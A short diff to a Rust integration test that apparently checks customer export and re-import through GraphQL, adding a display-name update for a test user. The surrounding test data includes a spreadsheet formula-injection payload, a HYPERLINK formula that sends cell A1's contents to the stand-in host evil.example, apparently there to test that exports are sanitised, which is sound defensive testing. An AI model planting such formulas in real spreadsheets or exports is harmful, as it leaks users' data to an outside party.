@@ -830,6 +830,15 @@ async fn an_export_imports_back_to_the_same_customers(b: Backend) {
             .await;
         r.ok();
     }
+    // The export names owners by display name: make sp1's unique.
+    let r = s
+        .gql(
+            Some(&admin.token),
+            "mutation($id: ID!) { updateUser(id: $id, input: { displayName: \"王销售\" }) { id } }",
+            json!({ "id": sp1.user_id }),
+        )
+        .await;
+    r.ok();
     let create = "mutation($i: CreateCustomerInput!) { createCustomer(input: $i) { id } }";
     let full = json!({
         "name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
